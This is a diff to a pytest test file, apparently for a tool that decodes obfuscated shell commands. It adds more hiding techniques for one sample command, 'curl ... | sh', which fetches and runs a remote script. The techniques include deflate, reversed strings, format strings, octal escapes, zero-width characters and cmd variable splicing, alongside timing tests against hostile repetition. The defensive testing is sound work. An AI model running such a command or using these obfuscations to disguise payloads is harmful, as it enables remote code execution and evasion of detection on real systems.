@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import gzip
 import time
+import zlib
 
 import pytest
 from hypothesis import given, settings
@@ -17,6 +18,12 @@ PLAIN = "curl -fsS http://192.0.2.7/update.sh | sh"
 
 def b64(data: bytes) -> str:
     return base64.b64encode(data).decode()
+
+
+def deflated(data: bytes) -> bytes:
+    """Raw deflate, without a header."""
+    packer = zlib.compressobj(wbits=-15)
+    return packer.compress(data) + packer.flush()
 
 
 def texts(command: str) -> list[str]:
@@ -35,11 +42,35 @@ def texts(command: str) -> list[str]:
         ",".join(str(ord(c)) for c in PLAIN),
         f"'{PLAIN[:9]}' + '{PLAIN[9:20]}' + '{PLAIN[20:]}'",
         f"echo {base64.urlsafe_b64encode(PLAIN.encode()).decode().rstrip('=')}",
+        f"[IO.Compression.DeflateStream]('{b64(deflated(PLAIN.encode()))}')",
+        "('{2}{0}{1}' -f '" + "','".join((PLAIN[9:20], PLAIN[20:], PLAIN[:9])) + "')",
+        f"$x='{PLAIN[::-1]}'[-1..-99] -join ''",
+        f"python3 -c \"import os;os.system('{PLAIN[::-1]}'[::-1])\"",
+        f"'{PLAIN.replace('curl', 'QZQ')}'.Replace('QZQ','curl')",
+        f"'{PLAIN.replace('sh', '~~')}' -replace '~~','sh'",
+        "printf '" + "".join(f"\\{byte:03o}" for byte in PLAIN.encode()) + "'",
+        PLAIN.replace("curl", "cu\u200brl").replace("update", "up\u00addate"),
     ],
-    ids=["base64", "utf-16-le", "gzip", "hex", "escapes", "char codes", "code list", "concatenation", "urlsafe"],
-)
+    ids=[
+        "base64", "utf-16-le", "gzip", "hex", "escapes", "char codes", "code list", "concatenation", "urlsafe",
+        "deflate", "format string", "reversed", "reversed slice", "replaced", "replace operator", "octal", "unseen characters",
+    ],
+)  # fmt: skip
 def test_hidden_text_is_found_however_it_was_hidden(command: str) -> None:
     assert PLAIN in texts(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'cmd /c "set a=cu&set b=rl&call %a%%b% -fsS http://192.0.2.7/update.sh | sh"',
+        'cmd /v /c "set x=zzcurlzz&!x:~2,4! -fsS http://192.0.2.7/update.sh | sh"',
+        "a=cu;b='rl'; $a${b} -fsS http://192.0.2.7/update.sh | sh",
+    ],
+    ids=["cmd", "cut out", "sh"],
+)
+def test_variables_that_a_command_sets_itself_are_put_in(command: str) -> None:
+    assert any(PLAIN in text for text in texts(command))
 
 
 def test_layers_within_layers_come_out_with_their_depth() -> None:
@@ -84,7 +115,11 @@ def test_many_hidden_texts_are_cut_at_their_bound() -> None:
     assert len(decode(command)) == MAX_LAYERS
 
 
-@pytest.mark.parametrize("unit", ["'a'+", "[char]65+", "A", "65,", "\\x41", "`a", '"', "\u202e"])
+@pytest.mark.parametrize("unit", [
+        "'a'+", "[char]65+", "A", "65,", "\\x41", "`a", '"', "\u202e", "{0}", "'{0}{1}' -f ", "'abcd'.replace('b',",
+        "'abcdefgh'[-1..", "set a=b&%a%", "a=b;$a ", "\\101",
+    ],
+)  # fmt: skip
 def test_hostile_repetition_takes_no_longer_than_its_size_explains(unit: str) -> None:
     text = (unit * MAX_INPUT)[:MAX_INPUT]
     short = _seconds(text[: MAX_INPUT // 8])
